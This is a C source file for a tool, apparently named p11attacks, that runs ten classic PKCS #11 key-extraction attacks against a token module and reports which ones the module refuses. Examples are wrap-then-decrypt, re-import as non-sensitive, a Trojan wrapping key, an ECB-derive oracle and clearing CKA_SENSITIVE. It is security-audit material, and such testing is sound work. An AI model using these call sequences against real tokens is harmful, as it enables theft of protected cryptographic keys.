/*
 * p11attacks: the classic PKCS #11 API attacks, run against one module as
 * a program would run them. For each it prints one line:
 *
 *   NAME: falls (what the attacker got)
 *   NAME: refused (the call that refused, and its return value)
 *
 *   p11attacks MODULE PIN
 *
 * Symmetric wrapping is tried with CKM_AES_CBC_PAD, CKM_AES_KEY_WRAP_PAD
 * and CKM_AES_KEY_WRAP in turn; an attack is reported refused only if
 * every one was.
 *
 * The attacks use only what a compromised client of the token can do:
 * make keys with the attributes it likes, wrap, unwrap, encrypt, decrypt,
 * change attributes. The victim is always a key marked CKA_SENSITIVE (and,
 * where the attack needs it to be wrappable at all, CKA_EXTRACTABLE):
 * its value must never reach the attacker.
 */
#include <dlfcn.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <p11-kit/pkcs11.h>

static CK_FUNCTION_LIST_PTR f;
static CK_SESSION_HANDLE s;
static CK_BBOOL yes = CK_TRUE, no = CK_FALSE;
static CK_OBJECT_CLASS secret = CKO_SECRET_KEY;
static CK_KEY_TYPE aes = CKK_AES;
static CK_BYTE iv[16];

static void result (const char *name, CK_RV rv, const char *call, const char *got)
{
	if (rv == CKR_OK)
		printf ("%s: falls (%s)\n", name, got);
	else
		printf ("%s: refused (%s: 0x%lx)\n", name, call, (unsigned long) rv);
}

/* aes_key makes a session AES key of len bytes with the given usages,
 * sensitive, and extractable if asked. */
static CK_RV aes_key (CK_ULONG len, int enc, int dec, int wrap, int unwrap, int extractable, CK_OBJECT_HANDLE *h)
{
	CK_MECHANISM gen = { CKM_AES_KEY_GEN, NULL, 0 };
	CK_ATTRIBUTE t[] = {
		{ CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &yes, 1 }, { CKA_VALUE_LEN, &len, sizeof len },
		{ CKA_ENCRYPT, enc ? &yes : &no, 1 }, { CKA_DECRYPT, dec ? &yes : &no, 1 },
		{ CKA_WRAP, wrap ? &yes : &no, 1 }, { CKA_UNWRAP, unwrap ? &yes : &no, 1 },
		{ CKA_EXTRACTABLE, extractable ? &yes : &no, 1 },
	};
	return f->C_GenerateKey (s, &gen, t, sizeof t / sizeof t[0], h);
}

static CK_MECHANISM cbc_pad = { CKM_AES_CBC_PAD, iv, sizeof iv };
static CK_MECHANISM kwp = { CKM_AES_KEY_WRAP_PAD, NULL, 0 };
static CK_MECHANISM kw = { CKM_AES_KEY_WRAP, NULL, 0 };
/* The symmetric mechanisms an attack tries, in turn: the first that the
 * token takes for every step is the attack's. */
static CK_MECHANISM *sym[] = { &cbc_pad, &kwp, &kw };
#define NSYM (sizeof sym / sizeof sym[0])

static CK_RV wrap (CK_MECHANISM *m, CK_OBJECT_HANDLE w, CK_OBJECT_HANDLE k, CK_BYTE *out, CK_ULONG *n)
{
	return f->C_WrapKey (s, m, w, k, out, n);
}

static CK_RV decrypt (CK_MECHANISM *m, CK_OBJECT_HANDLE k, CK_BYTE *in, CK_ULONG n, CK_BYTE *out, CK_ULONG *outn)
{
	CK_RV rv = f->C_DecryptInit (s, m, k);
	if (rv != CKR_OK)
		return rv;
	return f->C_Decrypt (s, in, n, out, outn);
}

static CK_RV value (CK_OBJECT_HANDLE k, CK_BYTE *out, CK_ULONG *n)
{
	CK_ATTRIBUTE a = { CKA_VALUE, out, *n };
	CK_RV rv = f->C_GetAttributeValue (s, k, &a, 1);
	*n = a.ulValueLen;
	return rv;
}

int main (int argc, char **argv)
{
	void *h;
	CK_C_GetFunctionList get;
	CK_SLOT_ID slots[8];
	CK_ULONG n = 8;
	CK_C_INITIALIZE_ARGS args;
	CK_OBJECT_HANDLE w, k, u, t;
	CK_BYTE buf[4096], out[4096];
	CK_ULONG bn, on;
	CK_RV rv;

	if (argc != 3)
		return 2;
	if ((h = dlopen (argv[1], RTLD_NOW | RTLD_LOCAL)) == NULL ||
	    (get = (CK_C_GetFunctionList) dlsym (h, "C_GetFunctionList")) == NULL || get (&f) != CKR_OK) {
		fprintf (stderr, "cannot load %s\n", argv[1]);
		return 2;
	}
	memset (&args, 0, sizeof args);
	args.flags = CKF_OS_LOCKING_OK;
	if (f->C_Initialize (&args) != CKR_OK || f->C_GetSlotList (CK_TRUE, slots, &n) != CKR_OK || n == 0 ||
	    f->C_OpenSession (slots[0], CKF_SERIAL_SESSION | CKF_RW_SESSION, NULL, NULL, &s) != CKR_OK ||
	    f->C_Login (s, CKU_USER, (CK_UTF8CHAR_PTR) argv[2], strlen (argv[2])) != CKR_OK) {
		fprintf (stderr, "no token\n");
		return 2;
	}

	/* 1. Wrap the victim under a key that also decrypts; decrypt the blob. */
	for (size_t i = 0; i < NSYM; i++) {
		rv = aes_key (32, 0, 1, 1, 0, 0, &w);
		if (rv == CKR_OK)
			rv = aes_key (32, 1, 1, 0, 0, 1, &k);
		bn = sizeof buf;
		if (rv == CKR_OK && (rv = wrap (sym[i], w, k, buf, &bn)) == CKR_OK) {
			on = sizeof out;
			rv = decrypt (sym[i], w, buf, bn, out, &on);
		}
		if (rv == CKR_OK)
			break;
	}
	result ("wrap-then-decrypt", rv, "a key that wraps and decrypts, then C_Decrypt of the blob", "the victim's bytes");

	/* 2. Encrypt chosen bytes with a key that also unwraps; unwrap them
	 * as a key the attacker knows, then use it as the victim's peer. */
	for (size_t i = 0; i < NSYM; i++) {
		rv = aes_key (32, 1, 0, 0, 1, 0, &u);
		if (rv == CKR_OK && (rv = f->C_EncryptInit (s, sym[i], u)) == CKR_OK) {
			CK_BYTE known[32];
			memset (known, 0x42, sizeof known);
			bn = sizeof buf;
			if ((rv = f->C_Encrypt (s, known, sizeof known, buf, &bn)) == CKR_OK) {
				CK_ATTRIBUTE t2[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
				                      { CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &yes, 1 }, { CKA_WRAP, &yes, 1 } };
				rv = f->C_UnwrapKey (s, sym[i], u, buf, bn, t2, 5, &t);
			}
		}
		if (rv == CKR_OK)
			break;
	}
	result ("encrypt-then-unwrap", rv, "a key that encrypts and unwraps", "a wrapping key whose bytes the attacker chose");

	/* 3. Re-import: wrap the victim, unwrap it as not sensitive, read it. */
	for (size_t i = 0; i < NSYM; i++) {
		rv = aes_key (32, 0, 0, 1, 1, 0, &w);
		if (rv == CKR_OK)
			rv = aes_key (32, 1, 1, 0, 0, 1, &k);
		bn = sizeof buf;
		if (rv == CKR_OK && (rv = wrap (sym[i], w, k, buf, &bn)) == CKR_OK) {
			CK_ATTRIBUTE t3[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
			                      { CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &no, 1 }, { CKA_EXTRACTABLE, &yes, 1 } };
			if ((rv = f->C_UnwrapKey (s, sym[i], w, buf, bn, t3, 5, &t)) == CKR_OK) {
				on = sizeof out;
				rv = value (t, out, &on);
			}
		}
		if (rv == CKR_OK)
			break;
	}
	result ("reimport-with-new-attributes", rv, "unwrap as not sensitive, then CKA_VALUE", "the victim's bytes");

	/* 4. A Trojan wrapping key: import a key the attacker knows, wrap the
	 * victim under it, decrypt the blob at home. */
	{
		CK_BYTE known[32];
		CK_ULONG len = 32;
		CK_ATTRIBUTE t4[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
		                      { CKA_TOKEN, &no, 1 }, { CKA_WRAP, &yes, 1 }, { CKA_VALUE, known, sizeof known } };
		(void) len;
		memset (known, 0x13, sizeof known);
		rv = f->C_CreateObject (s, t4, 5, &w);
		if (rv == CKR_OK)
			rv = aes_key (32, 1, 1, 0, 0, 1, &k);
		for (size_t i = 0; rv == CKR_OK && i < NSYM; i++) {
			bn = sizeof buf;
			if (wrap (sym[i], w, k, buf, &bn) == CKR_OK)
				break;
			if (i == NSYM - 1)
				rv = wrap (sym[i], w, k, buf, &bn);
		}
		result ("trojan-wrapping-key", rv, "wrap under an imported key", "the victim under a key the attacker knows");
	}

	/* 5. Add decrypt to a wrapping key after the fact. */
	rv = aes_key (32, 0, 0, 1, 0, 0, &w);
	if (rv == CKR_OK) {
		CK_ATTRIBUTE a = { CKA_DECRYPT, &yes, 1 };
		rv = f->C_SetAttributeValue (s, w, &a, 1);
	}
	result ("add-decrypt-to-wrapping-key", rv, "C_SetAttributeValue(CKA_DECRYPT)", "a key that wraps and decrypts");

	/* 6. Wrap a 256-bit key under a 128-bit one. */
	rv = aes_key (16, 0, 0, 1, 0, 0, &w);
	if (rv == CKR_OK)
		rv = aes_key (32, 1, 1, 0, 0, 1, &k);
	for (size_t i = 0; rv == CKR_OK && i < NSYM; i++) {
		bn = sizeof buf;
		if (wrap (sym[i], w, k, buf, &bn) == CKR_OK)
			break;
		if (i == NSYM - 1)
			rv = wrap (sym[i], w, k, buf, &bn);
	}
	result ("wrap-under-weaker-key", rv, "an AES-128 wrapping key", "a 256-bit key under 128 bits");

	/* 7. RSA PKCS #1 v1.5 unwrapping: the padding oracle's door. */
	{
		CK_MECHANISM gen = { CKM_RSA_PKCS_KEY_PAIR_GEN, NULL, 0 }, pkcs1 = { CKM_RSA_PKCS, NULL, 0 };
		CK_ULONG bits = 2048;
		CK_BYTE e65537[] = { 1, 0, 1 };
		CK_ATTRIBUTE pub[] = { { CKA_TOKEN, &no, 1 }, { CKA_MODULUS_BITS, &bits, sizeof bits },
		                       { CKA_PUBLIC_EXPONENT, e65537, 3 }, { CKA_WRAP, &yes, 1 }, { CKA_ENCRYPT, &yes, 1 } };
		CK_ATTRIBUTE priv[] = { { CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &yes, 1 }, { CKA_UNWRAP, &yes, 1 },
		                        { CKA_DECRYPT, &yes, 1 } };
		CK_OBJECT_HANDLE rpub, rpriv;
		rv = f->C_GenerateKeyPair (s, &gen, pub, 5, priv, 4, &rpub, &rpriv);
		if (rv == CKR_OK && (rv = aes_key (32, 1, 1, 0, 0, 1, &k)) == CKR_OK) {
			bn = sizeof buf;
			rv = wrap (&pkcs1, rpub, k, buf, &bn);
			/* 8. And the asymmetric wrap/decrypt: decrypt the blob with
			 * the private key. */
			if (rv == CKR_OK) {
				on = sizeof out;
				CK_RV rv2 = decrypt (&pkcs1, rpriv, buf, bn, out, &on);
				result ("asymmetric-wrap-then-decrypt", rv2, "C_Decrypt of an RSA-wrapped blob", "the victim's bytes");
			} else {
				result ("asymmetric-wrap-then-decrypt", rv, "C_WrapKey with CKM_RSA_PKCS", "the victim's bytes");
			}
			if (rv == CKR_OK) {
				CK_ATTRIBUTE t7[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
				                      { CKA_TOKEN, &no, 1 } };
				rv = f->C_UnwrapKey (s, &pkcs1, rpriv, buf, bn, t7, 3, &t);
			}
		} else {
			result ("asymmetric-wrap-then-decrypt", rv, "an RSA key that wraps and decrypts", "the victim's bytes");
		}
		result ("rsa-pkcs1-unwrap", rv, "CKM_RSA_PKCS unwrap", "PKCS #1 v1.5 unwrapping, a padding oracle");
	}

	/* 9. ECB-derive: derive a key whose value is the ECB encryption of
	 * data the attacker chose, under the victim: an encryption oracle. */
	{
		CK_BYTE data[32];
		CK_KEY_DERIVATION_STRING_DATA p = { data, sizeof data };
		CK_MECHANISM m = { CKM_AES_ECB_ENCRYPT_DATA, &p, sizeof p };
		CK_ATTRIBUTE t9[] = { { CKA_CLASS, &secret, sizeof secret }, { CKA_KEY_TYPE, &aes, sizeof aes },
		                      { CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &no, 1 }, { CKA_EXTRACTABLE, &yes, 1 } };
		CK_ATTRIBUTE d[] = { { CKA_TOKEN, &no, 1 }, { CKA_SENSITIVE, &yes, 1 }, { CKA_DERIVE, &yes, 1 } };
		CK_MECHANISM gen = { CKM_AES_KEY_GEN, NULL, 0 };
		CK_ULONG len = 32;
		CK_ATTRIBUTE dl[] = { d[0], d[1], d[2], { CKA_VALUE_LEN, &len, sizeof len } };
		memset (data, 0, sizeof data);
		rv = f->C_GenerateKey (s, &gen, dl, 4, &k);
		if (rv == CKR_OK && (rv = f->C_DeriveKey (s, &m, k, t9, 5, &t)) == CKR_OK) {
			on = sizeof out;
			rv = value (t, out, &on);
		}
		result ("ecb-derive-oracle", rv, "C_DeriveKey with CKM_AES_ECB_ENCRYPT_DATA", "AES(victim, chosen data)");
	}

	/* 10. Read a sensitive key directly, after switching CKA_SENSITIVE off. */
	rv = aes_key (32, 1, 1, 0, 0, 0, &k);
	if (rv == CKR_OK) {
		CK_ATTRIBUTE a = { CKA_SENSITIVE, &no, 1 };
		rv = f->C_SetAttributeValue (s, k, &a, 1);
		if (rv == CKR_OK) {
			on = sizeof out;
			rv = value (k, out, &on);
		}
	}
	result ("direct-read", rv, "C_SetAttributeValue(CKA_SENSITIVE false)", "the victim's bytes");

	f->C_Finalize (NULL);
	return 0;
}
